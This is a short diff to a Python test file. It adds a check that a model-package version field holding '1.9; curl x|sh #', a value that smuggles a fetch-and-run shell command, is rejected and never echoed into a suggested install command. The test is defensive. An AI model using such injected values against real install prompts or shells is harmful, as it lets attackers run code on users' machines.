@@ -24,6 +24,11 @@ def test_written_with_names_the_libraries_and_the_check_follows_the_series():
     with pytest.raises(InputError, match=r"^MODEL: 'm.dlpk' was written by scikit-learn 0\.24"):
         check_written_with({"scikit-learn": "0.24.2"}, "m.dlpk")
     assert here
+    # text from a package never reaches the install command the message tells to run
+    with pytest.raises(InputError, match="^MODEL: 'm.dlpk' records a scikit-learn version "
+                       "that is not a version number") as got:
+        check_written_with({"scikit-learn": "1.9; curl x|sh #"}, "m.dlpk")
+    assert "curl" not in str(got.value)
 
 
 def test_a_package_from_another_scikit_learn_says_what_to_install(sample, tmp_path):
